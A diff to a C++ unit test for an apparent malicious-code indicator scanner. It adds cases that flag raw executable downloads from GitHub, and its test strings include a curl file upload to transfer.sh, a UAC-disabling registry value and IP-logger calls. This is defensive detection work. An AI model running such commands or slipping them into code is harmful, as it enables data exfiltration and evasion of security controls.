@@ -65,6 +65,11 @@ TEST(IndicatorsTest, ExfiltrationChannels) {
   ExpectIndicator("k = r'Policies\\System'; name = 'EnableLUA'", "indicator-defense-evasion");
   ExpectIndicator("r = get('https://bit.ly/3xyz')", "indicator-shortener");
   ExpectIndicator("curl --upload-file ./a https://transfer.sh/a", "indicator-filehost");
+  // A Windows program served raw from a repository; its scripts are left out.
+  ExpectIndicator("u = 'https://raw.githubusercontent.com/a/b/main/tool.exe'", "indicator-filehost");
+  ExpectIndicator("u = 'https://github.com/a/b/raw/main/Updater.exe'", "indicator-filehost");
+  ExpectNoIndicator("u = 'https://raw.githubusercontent.com/a/b/main/enable-rdp.ps1'");
+  ExpectNoIndicator("u = 'https://github.com/a/b/releases/download/v1/tool.exe'");
   ExpectIndicator("ip = get('https://api.ipify.org').text", "indicator-ip-lookup");
   ExpectIndicator("urlopen('https://iplogger.org/2Abc')", "indicator-ip-logger");
   ExpectIndicator("get('https://iplogger.com')", "indicator-ip-logger");
